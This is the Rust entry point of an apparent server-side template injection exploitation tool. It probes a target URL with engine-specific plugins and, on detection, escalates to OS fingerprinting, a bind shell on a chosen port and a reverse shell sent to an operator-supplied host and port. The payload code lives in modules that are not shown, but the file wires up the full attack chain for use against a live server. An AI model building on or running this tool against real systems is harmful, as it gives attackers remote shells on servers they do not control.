use std::sync::Arc;
use std::time::Duration;

use clap::Parser;
use tracing_subscriber::{fmt, EnvFilter};

use tplstrike::channel::HttpChannel;
use tplstrike::cli::Cli;
use tplstrike::config::AppConfig;
use tplstrike::plugin::PluginRuntime;
use tplstrike::{plugins, Channel};

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info"));
    fmt().with_env_filter(filter).init();

    let cli = Cli::parse();
    let config = AppConfig::from_env()?;
    let telemetry = config.build_telemetry()?;
    let args = cli.to_args()?;

    let channel: Arc<dyn Channel> = Arc::new(HttpChannel::new(
        cli.url.clone(),
        cli.method.into(),
        Duration::from_millis(config.http_timeout_ms),
        args,
    )?);

    let (registry, rejected) = plugins::build_registry();
    for (name, err) in &rejected {
        tracing::warn!(plugin = %name, error = %err, "plugin rejected at registration");
    }

    let languages: Vec<&str> = match &cli.engine {
        Some(lang) => vec![lang.as_str()],
        None => registry.languages().collect(),
    };

    let mut any_detected = false;
    for language in languages {
        for descriptor in registry.plugins_for(language) {
            let runtime = PluginRuntime::new(descriptor.clone(), channel.clone());
            match runtime.detect().await {
                Ok(true) => {
                    any_detected = true;
                    println!("[+] {}/{} detected", descriptor.language, descriptor.name);
                    run_escalations(&cli, &runtime).await;
                }
                Ok(false) => {
                    tracing::debug!(plugin = %descriptor.name, "no detection");
                }
                Err(err) => {
                    tracing::error!(plugin = %descriptor.name, error = %err, "channel error during detection");
                }
            }
        }
    }

    if !any_detected {
        println!("[-] no injection detected against {}", cli.url);
    }

    telemetry.record_all(&cli.url, &channel.events());
    println!("telemetry lines written: {}", telemetry.lines_total());

    Ok(())
}

async fn run_escalations(cli: &Cli, runtime: &PluginRuntime) {
    if cli.os_shell {
        match runtime.fingerprint_os().await {
            Ok(Some(os)) => println!("    os: {}", os),
            Ok(None) => println!("    os: fingerprint unavailable"),
            Err(err) => tracing::error!(error = %err, "os fingerprint failed"),
        }
    }
    if let Some(port) = cli.bind_shell {
        match runtime.bind_shell(port).await {
            Ok(true) => println!("    bind shell dispatched on port {}", port),
            Ok(false) => println!("    bind shell dispatch failed"),
            Err(err) => tracing::error!(error = %err, "bind shell failed"),
        }
    }
    match cli.reverse_shell_target() {
        Ok(Some((host, port))) => match runtime.reverse_shell(&host, port).await {
            Ok(true) => println!("    reverse shell dispatched to {}:{}", host, port),
            Ok(false) => println!("    reverse shell dispatch failed"),
            Err(err) => tracing::error!(error = %err, "reverse shell failed"),
        },
        Ok(None) => {}
        Err(err) => tracing::error!(error = %err, "invalid --reverse-shell target"),
    }
}
